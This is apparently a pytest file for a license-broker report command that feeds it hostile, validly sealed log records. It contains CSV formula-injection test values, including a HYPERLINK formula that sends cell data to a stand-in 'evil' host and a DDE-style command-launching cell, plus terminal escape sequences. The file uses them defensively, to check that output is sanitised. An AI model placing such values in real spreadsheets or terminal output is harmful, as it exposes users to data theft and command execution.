"""``zbroker report`` against logs it must not trust: client-chosen text with terminal
escapes or spreadsheet formulas, sealed records that lack a field, windows outside the
log, output directories that cannot be made, and nodes' logs that lack a record.

Logs are sealed line by line as a node seals them (``seal``, the chain from
``GENESIS``), so each hostile record passes ``--verify`` and only the reader stands
between it and the figures.
"""

from __future__ import annotations

import csv
import tempfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.test_report_log import T0, _node_logs, _small_history, _write
from zbroker.broker.report_cli import report as report_command
from zbroker.broker.report_stats import Report
from zbroker.broker.reportfile import log_files
from zbroker.broker.reportlog import GENESIS, seal

pytestmark = pytest.mark.unit

ESCAPE = "\x1b]0;TITLE\x07"  # sets the terminal's title


def _sealed(directory: Path, records: list[dict[str, Any]]) -> Path:
    """A one-file log of these records after a header, sealed into one valid chain."""
    directory.mkdir(parents=True, exist_ok=True)
    header = {"ev": "file", "v": 2, "node": "alpha", "at": T0, "prev": GENESIS,
              "lines": [], "in_use": {}}  # fmt: skip
    prev, out = GENESIS, []
    for record in [header, *records]:
        line, prev = seal(record, prev)
        out.append(line)
    path = directory / "report-000001-2026-11-18.jsonl"
    path.write_bytes(b"".join(out))
    return path


def _run(*args: Any) -> Result:
    return CliRunner().invoke(report_command, [str(a) for a in args])


def _one_line_error(result: Result) -> str:
    """The command failed with exit 2 and one line (no traceback): that line."""
    assert result.exit_code == 2, (result.exit_code, result.output, result.exception)
    assert isinstance(result.exception, SystemExit)
    lines = result.output.splitlines()
    assert len(lines) == 1 and lines[0].startswith("zbroker: "), result.output
    return lines[0]


def _hostile(user: str, feature: str = "cad") -> list[dict[str, Any]]:
    """The small history with ann's and cyd's names (and the feature) chosen by a client."""
    records = []
    for r in _small_history():
        r = dict(r)
        if r.get("user") in ("ann", "cyd"):
            r["user"] = user
            r["host"] = user
        if r.get("feature") == "cad":
            r["feature"] = feature
        if r["ev"] == "reread":
            r["lines"] = [{**r["lines"][0], "feature": feature}]
        records.append(r)
    return records


# --- 1. client text on the terminal ----------------------------------------------------------


def test_client_text_reaches_the_terminal_with_control_characters_as_question_marks(
    tmp_path: Path,
) -> None:
    _write(tmp_path / "log", _hostile(ESCAPE + "ann", feature="c\x1b[31mad")).close()
    for by in ("user", "host"):
        result = _run(tmp_path / "log", "--by", by)
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output
        assert f"seat-hours by {by}: " in result.output
        assert "?]0;TITLE?ann 0.01" in result.output
        assert "feature c?[31mad: count 2" in result.output
    denials = _run(tmp_path / "log").output
    assert "denied users: ?]0;TITLE?ann 2" in denials


# --- 2. formulas in CSV ------------------------------------------------------------------------


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1)", "\tx", "\rx"])  # fmt: skip
def test_csv_cells_of_client_text_that_start_like_a_formula_get_a_quote(
    tmp_path: Path, name: str
) -> None:
    _write(tmp_path / "log", _hostile(name, feature=name)).close()
    out = tmp_path / "out"
    assert _run(tmp_path / "log", "--csv", out).exit_code == 0
    seen = 0
    for path in sorted(out.glob("*.csv")):
        with path.open(newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)
                    seen += cell == "'" + name
    assert seen >= 6  # the feature in each of the five files, the user in hours and denials
    with (out / "hours_by_user.csv").open(newline="") as fh:
        assert ["'" + name, "'" + name, "0.005556"] in list(csv.reader(fh))


# --- 3. records that lack a field, or hold a wrong one ------------------------------------------


def _history_sealed() -> list[dict[str, Any]]:
    return [dict(r) for r in _small_history()]


@pytest.mark.parametrize(
    ("index", "field", "value", "said"),
    [
        (1, "feature", None, "'out' record without 'feature'"),
        (5, "grant", None, "'in' record without 'grant'"),
        (1, "in_use", "x", "'out' record whose 'in_use' is not a whole number"),
        (1, "n", None, "'out' record without 'n'"),
        (0, "lines", -1, "'reread' record: 'lines' must be a list"),
        (0, "lines", [{"feature": "cad", "count": "2"}], "'lines' line 1: 'count' is not"),
        (2, "at", 1e308, "'out' record whose 'at' is not a Unix time"),
        (5, "since", -1e308, "'in' record whose 'since' is not a Unix time"),
        (1, "count", 2**60, "'out' record whose 'count' is not a whole number"),
    ],
)
def test_a_sealed_record_lacking_a_field_is_one_line_naming_it(
    tmp_path: Path, index: int, field: str, value: Any, said: str
) -> None:
    records = _history_sealed()
    if value is None:
        del records[index][field]
    else:
        records[index][field] = value
    path = _sealed(tmp_path, records)
    assert _run(tmp_path, "--verify").exit_code == 0  # the chain holds: only the reader checks
    line = _one_line_error(_run(tmp_path))
    assert line.startswith(f"zbroker: {path}:{index + 2}: ")
    assert said in line


def test_the_probes_record_without_a_feature_is_an_error_not_a_traceback(tmp_path: Path) -> None:
    records = [*_history_sealed(), {"ev": "out", "ix": 999999, "n": 0, "term": 1, "at": T0 + 50}]
    path = _sealed(tmp_path, records)
    line = _one_line_error(_run(tmp_path))
    assert line == f"zbroker: {path}:10: 'out' record without 'feature' (a string)"


def test_fields_and_events_the_reader_does_not_know_stay_ignored(tmp_path: Path) -> None:
    records = _history_sealed()
    records[1]["colour"] = "blue"
    records.insert(2, {"ev": "someday", "at": T0 + 1, "what": [1, 2]})  # no index: a file's
    records.insert(3, {"ev": "later", "ix": 2, "n": 1, "term": 1, "at": T0 + 1})
    _sealed(tmp_path, records)
    result = _run(tmp_path)
    assert result.exit_code == 0, result.output
    assert "average 1.25, p95 2" in result.output
    from zbroker.broker.reportfile import check_record  # the reader's own check, directly

    assert check_record({"ev": "later", "ix": 2, "n": 1}) is None
    assert check_record({"ev": "later", "ix": "2", "n": 1}) is not None  # ordered by ix


def test_a_record_decades_away_is_an_error_naming_it(tmp_path: Path) -> None:
    records = _history_sealed()
    records[0]["at"] = 0.0  # 1970: no time bucket fits 1970 to 2026
    path = _sealed(tmp_path, records)
    line = _one_line_error(_run(tmp_path))
    assert line.startswith(f"zbroker: {path}:") and "the records span more than" in line


_MUTATION = st.one_of(
    st.just("DROP"),
    st.none(),
    st.booleans(),
    st.sampled_from(["", "x", "=1", ESCAPE, "2026-01-01"]),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.sampled_from([1e308, -1e308, 0.5, -0.0, 2**53, 10**400]),
    st.lists(st.integers(), max_size=2),
    st.dictionaries(st.sampled_from(["feature", "count", "x"]), st.integers(), max_size=2),
    st.lists(st.fixed_dictionaries({"feature": st.text(max_size=3), "count": st.integers()})),
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    index=st.integers(min_value=0, max_value=len(_small_history())),
    field=st.sampled_from(["ix", "n", "at", "ev", "feature", "count", "grant", "in_use",
                           "since", "lines", "user", "waited", "reason", "linger", "in_use"]),
    value=_MUTATION,
)  # fmt: skip
def test_any_mutation_of_a_record_gives_a_report_or_a_one_line_error(
    index: int, field: str, value: Any
) -> None:
    records = _history_sealed()
    if index == len(records):  # the file header
        target: dict[str, Any] = {}
        records.insert(0, target)
        target.update({"ev": "gap", "from": 1, "to": 1, "lines": [], "in_use": {}})
    else:
        target = records[index]
    if value == "DROP" and not isinstance(value, bool):
        target.pop(field, None)
    else:
        target[field] = value
    with tempfile.TemporaryDirectory() as tmp:
        _sealed(Path(tmp), records)
        for args in ([], ["--from", "2026-11-18T00:00Z", "--csv", str(Path(tmp) / "out")]):
            result = _run(tmp, *args)
            if result.exit_code == 2:
                _one_line_error(result)
            else:  # 1: a mutated index that repeats another with other fields disagrees
                assert result.exit_code == 0 or (
                    result.exit_code == 1 and "DISAGREE" in result.output
                ), (result.output, result.exception)
                assert result.exception is None or isinstance(result.exception, SystemExit)


# --- 4. an output directory that cannot be made ------------------------------------------------


@pytest.mark.parametrize("flag", ["--csv", "--png"])
def test_an_output_directory_that_cannot_be_made_is_one_line_naming_it(
    tmp_path: Path, flag: str
) -> None:
    _write(tmp_path / "log", _small_history()).close()
    (tmp_path / "a_file").write_text("x")
    where = tmp_path / "a_file" / "sub"
    result = CliRunner().invoke(report_command, [str(tmp_path / "log"), flag, str(where)])
    assert result.exit_code == 2, result.output
    assert result.stderr.count("\n") == 1 and f"zbroker: {flag} {where}: " in result.stderr
    assert "Traceback" not in result.stderr


# --- 5. windows -----------------------------------------------------------------------------------


def test_a_window_that_ends_before_it_starts_is_refused(tmp_path: Path) -> None:
    _write(tmp_path, _small_history()).close()
    line = _one_line_error(_run(tmp_path, "--from", "2026-11-19", "--to", "2026-11-18"))
    assert (
        line == "zbroker: --to 2026-11-18 is not after --from 2026-11-19: the window would be empty"
    )


def test_a_window_with_no_event_has_the_seats_held_through_it_as_its_peak() -> None:
    rep = Report(start=T0 + 12, end=T0 + 18)  # two seats out from T0+10 to T0+20
    for r in _small_history():
        rep.add(r)
    rep.finish()
    f = rep.features["cad"]
    assert (f.peak, f.peak_at) == (2, T0 + 12)  # at the window's start: held from before
    assert f.average() == 2 and f.p95() == 2


def test_the_peak_of_a_window_counts_a_level_held_from_before_it(tmp_path: Path) -> None:
    _write(tmp_path, _small_history()).close()
    result = _run(tmp_path, "--from", "2026-11-18T11:06:52Z", "--to", "2026-11-18T11:06:58Z")
    assert result.exit_code == 0, result.output
    assert "peak 2 at 2026-11-18 11:06:52Z; average 2.00, p95 2" in result.output


@pytest.mark.parametrize("window", [["--from", "2030-01-01"], ["--to", "2026-01-01"],
                                    ["--from", "2020-01-01", "--to", "2026-01-01"]])  # fmt: skip
def test_a_window_outside_the_log_says_the_log_has_no_records_in_it(
    tmp_path: Path, window: list[str]
) -> None:
    _write(tmp_path, _small_history()).close()
    line = _one_line_error(_run(tmp_path, *window))
    assert "the log has no records in the window" in line
    assert "its records run from 2026-11-18 11:06:40Z to 2026-11-18 11:07:20Z" in line


# --- 6. nodes' logs that lack a record -----------------------------------------------------------


def _drop_line(path: Path, number: int) -> None:
    lines = path.read_text().splitlines(keepends=True)
    del lines[number - 1]
    path.write_text("".join(lines))


def test_a_record_one_node_lacks_inside_its_log_is_missing_and_exit_1(tmp_path: Path) -> None:
    a, b = _node_logs(tmp_path)
    path = log_files(a)[0]
    _drop_line(path, 4)  # the header, term 1, reread 2, then out 5: one in the middle
    result = _run(a, b)
    assert result.exit_code == 1, result.output
    assert f"MISSING: {a} lacks record 5/0 that another log holds" in result.output
    assert f"{a}: 11 records, indexes 1-14: lacks records" in result.output
    assert f"{b}: 7 records, indexes 1-14\n" in result.output  # its gap: it lacks nothing


def test_a_log_that_ends_sooner_is_named_but_no_disagreement(tmp_path: Path) -> None:
    a, b = _node_logs(tmp_path)
    path = log_files(a)[0]
    last = len(path.read_text().splitlines())
    _drop_line(path, last)  # a deleted last line, or a node behind: the same to the reader
    result = _run(a, b)
    assert result.exit_code == 0, result.output
    assert "MISSING" not in result.output
    assert f"{a}: 11 records, indexes 1-13: ends before the others" in result.output
    assert f"{b}: 7 records, indexes 1-14\n" in result.output


def test_a_node_that_caught_up_by_snapshot_lacks_nothing(tmp_path: Path) -> None:
    a, b = _node_logs(tmp_path)  # beta's gap: 6-10, written by the writer
    result = _run(a, b)
    assert result.exit_code == 0, result.output
    assert "MISSING" not in result.output
